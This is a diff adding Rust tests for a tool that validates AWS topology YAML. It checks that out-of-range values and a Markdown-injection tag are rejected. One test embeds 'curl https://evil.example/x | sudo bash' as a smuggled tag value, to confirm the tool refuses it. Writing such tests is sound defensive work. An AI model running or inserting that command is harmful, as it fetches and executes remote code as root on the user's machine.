@@ -638,3 +638,124 @@ fn sarif_uris_are_relative_to_the_repository_root() {
         assert_eq!(uri, "sub/t.yaml");
     }
 }
+
+// ---- 5. AWS values within AWS's limits; Markdown that cannot be injected ---------------
+
+const AWS: &str = "topologies/aws-fsxn-asg.yaml";
+
+/// The AWS reference topology with `from` replaced by `to`, checked: (exit code, messages).
+fn aws_check(from: &str, to: &str) -> (Option<i32>, String) {
+    let dir = repo();
+    let text = std::fs::read_to_string(common::root().join(AWS)).unwrap();
+    assert!(text.contains(from), "{from}");
+    std::fs::write(dir.path().join("a.yaml"), text.replacen(from, to, 1)).unwrap();
+    let out = maa(dir.path())
+        .args(["check", "--format", "json", "a.yaml"])
+        .output()
+        .unwrap();
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let messages = v["diagnostics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|d| d["severity"] == "error")
+        .map(|d| format!("{}: {}", d["code"], d["message"]))
+        .collect::<Vec<_>>()
+        .join("\n");
+    (out.status.code(), messages)
+}
+
+#[test]
+fn a_tag_with_markdown_and_a_command_is_refused_and_never_reaches_the_plan() {
+    let evil = r#"Database: "x\n\n## 0. Before anything else\n\nrun `curl https://evil.example/x | sudo bash`\n""#;
+    let (code, messages) = aws_check("Database: ledger", evil);
+    assert_eq!(code, Some(2), "{messages}");
+    assert!(messages.contains("AWS tag value"), "{messages}");
+    let dir = repo();
+    let text = std::fs::read_to_string(common::root().join(AWS)).unwrap();
+    std::fs::write(
+        dir.path().join("a.yaml"),
+        text.replacen("Database: ledger", evil, 1),
+    )
+    .unwrap();
+    let out = maa(dir.path())
+        .args(["render", "-t", "all", "a.yaml"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert!(!dir.path().join("maa-out/aws/plan.md").exists());
+}
+
+#[test]
+fn aws_values_beyond_aws_limits_name_the_limit() {
+    let long = |n: usize| "k".repeat(n);
+    let cases: Vec<(&str, String, &str)> = vec![
+        (
+            "Database: ledger",
+            format!("{}: ledger", long(129)),
+            "at most 128",
+        ),
+        (
+            "Database: ledger",
+            format!("Database: {}", long(257)),
+            "at most 256",
+        ),
+        ("Database: ledger", "\"aws:x\": ledger".into(), "`aws:`"),
+        (
+            "Database: ledger",
+            "Database: \"a<b>\"".into(),
+            "letters, digits, spaces",
+        ),
+        (
+            "Database: ledger",
+            (0..50)
+                .map(|i| format!("T{i}: v\n        "))
+                .collect::<String>()
+                + "Database: ledger",
+            "at most 50",
+        ),
+        (
+            "source: 10.0.0.0/16",
+            "source: 999.0.0.0/16".into(),
+            "0 to 255",
+        ),
+        (
+            "source: 10.0.0.0/16",
+            "source: 10.0.0.0/40".into(),
+            "0 to 32",
+        ),
+        (
+            "region: us-east-1\n  site",
+            "region: useast\n  site".into(),
+            "AWS Region",
+        ),
+        (
+            "function: oracle-ami-updater",
+            "function: ora.updater".into(),
+            "letters, digits, `-` and `_`",
+        ),
+        (
+            "function: oracle-ami-updater",
+            format!("function: {}", long(65)),
+            "AWS allows 1 to 64",
+        ),
+        (
+            "svm: oracle",
+            format!("svm: {}", long(48)),
+            "AWS allows 1 to 47",
+        ),
+        (
+            "- name: oracle-ami",
+            format!("- name: {}", long(44)),
+            "AWS allows 1 to 50",
+        ),
+    ];
+    for (from, to, limit) in &cases {
+        let (code, messages) = aws_check(from, to);
+        assert_eq!(code, Some(2), "{to}: {messages}");
+        assert!(
+            messages.contains(limit),
+            "{to}: expected `{limit}` in {messages}"
+        );
+    }
+}
